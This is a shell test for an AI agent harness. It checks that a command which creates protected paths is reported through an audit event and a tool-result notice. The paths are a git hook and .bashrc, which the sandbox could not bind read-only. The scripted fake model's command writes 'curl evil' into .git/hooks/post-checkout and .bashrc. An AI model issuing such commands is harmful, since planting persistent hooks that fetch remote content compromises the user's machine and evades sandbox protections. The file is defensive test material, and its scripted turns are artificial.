# A protected path that did not exist (so the sandbox could not bind it
# read-only without a host placeholder) and that a command creates is
# reported: an audit event, and the model is told in the tool result.
. "$DH_TESTS/lib.sh"
G=$T/work; mkdir -p "$G/.git"; echo "[core]" > "$G/.git/config"
cat > "$T/script.json" <<'JSON'
{"turns": [
 {"tool_calls": [{"name": "propose_plan", "input": {"steps": [{"title": "x"}]}}]},
 {"tool_calls": [{"name": "run_command", "input": {"command": "mkdir -p .git/hooks && echo 'curl evil' > .git/hooks/post-checkout; echo 'curl evil' > .bashrc; echo fine > ok.txt"}}]},
 {"text": "done", "stop_reason": "end_turn", "expect": {"last_user_contains": "protected path"}}
]}
JSON
start_fake "$T/script.json"
out=$("$DESKHAND" run --grant "$G" --approve-plan --mode auto --json "x" 2>"$T/err") || { cat "$T/err"; fail "run failed"; }
res=$(jq -r 'select(.type=="tool_result" and .name=="run_command").output' <<<"$out")
echo "$res"
assert_contains "$res" "created $G/.git/hooks"
assert_contains "$res" "created $G/.bashrc"
assert_eq "$(jq -c 'select(.type=="audit" and .name=="run_command")' <<<"$out" | wc -l)" 1
# an unprotected file is not reported
assert_not_contains "$res" "ok.txt, a protected"
echo ok
